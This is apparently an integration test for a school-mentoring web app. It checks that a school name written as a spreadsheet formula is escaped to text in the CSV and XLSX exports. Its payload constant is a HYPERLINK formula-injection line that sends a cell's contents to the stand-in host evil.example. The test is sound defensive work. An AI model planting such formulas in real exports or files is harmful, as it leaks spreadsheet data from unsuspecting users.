using System.Net;
using MentorHub.Tests.Infrastructure;
using MentorHub.Web.Modules.Schools.Domain;
using MentorHub.Web.Platform.Data;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;

namespace MentorHub.Tests.Modules.SelfAssessment;

/// <summary>A school whose registry name is a spreadsheet formula reaches the exports as text, in CSV and XLSX.</summary>
[Trait("Category", Category.Integration)]
public sealed class ComparisonExportEscapingTests(AppFixture app) : IClassFixture<AppFixture>
{
    private const string Payload = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open the report\")";

    [Fact]
    public async Task A_school_named_as_a_formula_is_exported_as_text_and_the_numbers_stay_numbers()
    {
        var coordinator = await app.SignedInAsync("coordinator@demo.example");
        var programmeId = await Surveys.ProgrammeIdAsync(coordinator);
        var url = $"/api/v1/programmes/{programmeId}/self-assessment/schools/export?group=teachers";
        var schoolId = (await CsvAsync(coordinator, url + "&format=csv")).Skip(1).First(l => l.Contains(",false,", StringComparison.Ordinal)).Split(',')[0];
        await using (var scope = app.Factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
            await db.Set<School>().Where(s => s.Id == schoolId).ExecuteUpdateAsync(s => s.SetProperty(x => x.Name, Payload));
        }

        var csv = (await CsvAsync(coordinator, url + "&format=csv")).Where(l => l.StartsWith(schoolId + ",", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(csv);
        Assert.All(csv, l => Assert.StartsWith($"{schoolId},\"'=HYPERLINK(", l));

        var xlsx = await coordinator.GetAsync(url + "&format=xlsx");
        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
        using var stream = new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync());
        var rows = stream.Query(useHeaderRow: true, excelType: ExcelType.XLSX).Cast<IDictionary<string, object>>()
            .Where(r => Equals(r["schoolId"], schoolId)).ToList();
        Assert.NotEmpty(rows);
        Assert.All(rows, r => Assert.Equal("'" + Payload, r["school"]));
        Assert.All(rows, r => Assert.IsType<double>(r["mean"]));
    }

    private static async Task<List<string>> CsvAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var text = System.Text.Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
        return text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToList();
    }
}
